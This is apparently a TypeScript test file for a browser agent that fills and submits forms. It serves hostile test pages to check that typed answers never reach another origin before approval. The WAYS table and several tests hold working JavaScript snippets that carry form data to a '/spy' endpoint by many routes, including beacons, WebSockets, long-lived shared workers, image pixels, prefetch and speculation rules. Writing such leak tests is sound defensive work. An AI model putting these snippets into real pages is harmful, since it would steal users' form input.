import { describe, expect, it } from 'vitest';
import { fewOf } from '#tests/setup/few-of.ts';
import { apply } from '../apply-harness.ts';
import { onSites } from './on-sites.ts';
import { asPage, QUESTIONS } from './serve-site.ts';

const { browser, sites } = await onSites();

/** Each way to carry `data` out; `to` is the other origin, without its scheme. */
const WAYS: Readonly<Record<string, string>> = {
  fetch: `fetch(to + '/spy', { method: 'POST', mode: 'no-cors', body: data })`,
  'fetch with a put': `fetch(to + '/spy', { method: 'PUT', body: data })`,
  beacon: `navigator.sendBeacon(to + '/spy', data)`,
  'a live connection': `const s = new WebSocket(to.replace('http', 'ws') + '/spy?' + data)`,
  'a live connection of a worker': `new Worker(URL.createObjectURL(new Blob(["new WebSocket('" + to.replace('http', 'ws') + "/spy?" + data + "')"])))`,
  'a live connection of a served worker': `new Worker('/worker.js#' + to.replace('http', 'ws') + '/spy?' + data)`,
  'a live connection of a bare frame': `const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.WebSocket(to.replace('http', 'ws') + '/spy?' + data)`,
  worker: `new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "/spy', { method: 'POST', mode: 'no-cors', body: '" + data + "' })"])))`,
  'shared worker': `new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + to + "/spy', { method: 'POST', mode: 'no-cors', body: '" + data + "' })"])))`,
  popup: `const w = document.createElement('form'); w.method = 'post'; w.target = '_blank'; w.action = to + '/spy'; const i = document.createElement('input'); i.name = 'd'; i.value = data; w.append(i); document.body.append(w); HTMLFormElement.prototype.submit.call(w); w.remove()`,
  'popup by address': `window.open(to + '/spy?' + data)`,
  'popup without an opener': `window.open(to + '/spy?' + data, '_blank', 'noopener')`,
  picture: `new Image().src = to + '/spy?' + data`,
  'hidden picture': `new Image().src = to + '/' + btoa(data) + '.gif'`,
  style: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '/spy?' + data; document.head.append(l)`,
  prefetch: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to + '/spy?' + data; document.head.append(l)`,
  'speculation rules': `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to + '/spy?' + data] }], prerender: [{ source: 'list', urls: [location.origin + '/ahead?' + data] }] }); document.head.append(s)`,
  frame: `const f = document.createElement('iframe'); f.src = to + '/spy?' + data; document.body.append(f)`,
  events: `new EventSource(to + '/spy?' + data)`,
  'a deferred request': `fetchLater(to + '/spy', { method: 'POST', mode: 'no-cors', body: data })`,
  'a download': `const a = document.createElement('a'); a.href = to + '/spy?' + data; a.download = 'x'; document.body.append(a); a.click()`,
  script: `const s = document.createElement('script'); s.src = to + '/spy/' + data; document.head.append(s)`,
};

const spying = (way: string, extra = '') =>
  asPage(
    `<form id="f" action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form>${extra}<script>const to = '${sites.other}'; f.onchange = () => { const data = new URLSearchParams(new FormData(f)).toString(); ${way} };</script>`,
  );

describe('before the approval', () => {
  it.each(fewOf(Object.entries(WAYS)))('nothing that was typed leaves by %s', async (_name, way) => {
    sites.page('/worker.js', (_request, response) =>
      response
        .writeHead(200, { 'content-type': 'text/javascript' })
        .end('try { new WebSocket(location.hash.slice(1)) } catch {}'),
    );
    const url = sites.page('/spied', spying(way));
    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(sites.leaked()).toEqual([]);
    expect(sites.sent()).toEqual([]);
  });

  it('no connection is opened because a page hints at one', async () => {
    const hint = `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = to; document.head.append(l)`;
    const url = sites.page('/hints', spying(hint));
    sites.connections.length = 0;
    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(sites.connections).not.toContain('other');
  });

  it('nothing leaves by a worker of nobody’s because the user has another page in hand', async () => {
    const { signal } = new AbortController();
    const inHand = await browser.host.open(sites.page('/in-hand', asPage('<p>Yours</p>')), {
      label: 'a',
      signal,
    });
    inHand.takeover.take('app');
    const url = sites.page(
      'other /filled',
      asPage(
        `<form id="f">${QUESTIONS}</form><script>const to = '${sites.own}'; f.onchange = () => { const data = new URLSearchParams(new FormData(f)).toString(); for (const mode of ['no-cors', 'cors']) new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + to + "/spy?" + data + "', { mode: '" + mode + "' })"]))) };</script>`,
      ),
    );
    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
    await new Promise((resolve) => setTimeout(resolve, 500));
    await inHand.close();
    expect(sites.arrived.filter(({ path }) => path.startsWith('/spy'))).toEqual([]);
  });

  it('nothing leaves by a worker that outlives its page', async () => {
    const url = sites.page(
      '/outlived',
      spying(
        `new SharedWorker(URL.createObjectURL(new Blob(["setInterval(() => fetch('" + to + "/spy?" + data + "', { mode: 'no-cors' }).catch(() => 0), 100)"])), { extendedLifetime: true })`,
      ),
    );
    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(sites.leaked()).toEqual([]);
  });

  it('a captcha frame opens no way out', async () => {
    const captcha = `<iframe src="${sites.other}/recaptcha/api2/anchor" title="reCAPTCHA" width="304" height="78"></iframe>`;
    const url = sites.page(
      '/captcha',
      spying(
        '',
        `${captcha}<script>setInterval(() => fetch('${sites.other}/spy', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f)) }), 200)</script>`,
      ),
    );
    await apply(browser.host, {
      url,
      // On a busy machine the browser takes its time.
      onOpen: ({ page }) => {
        page.bringToFront = () => new Promise((resolve) => setTimeout(resolve, 700));
      },
      hooks: {
        handOver: () => new Promise((resolve) => setTimeout(() => resolve('stop'), 1500)),
      },
    });
    expect(sites.leaked()).toEqual([]);
  });

  it('drafts, uploads and look-ups of the form’s own site get through', async () => {
    const draft = `fetch('/api/draft', { method: 'POST', body: data }); fetch('/api/places?q=' + encodeURIComponent(f.full_name.value)); const u = new FormData(); u.append('file', new File(['x'], 'cv.pdf')); fetch('/upload', { method: 'POST', body: u })`;
    const url = sites.page('/saved', spying(draft));
    const { report } = await apply(browser.host, { url });
    const paths = sites.arrived.map(({ path }) => path.split('?')[0]);
    expect(paths).toEqual(expect.arrayContaining(['/api/draft', '/api/places', '/upload']));
    expect(report.submitted).toBe('confirmed');
    expect(paths.filter((path) => path === '/receive')).toHaveLength(1);
  });
});
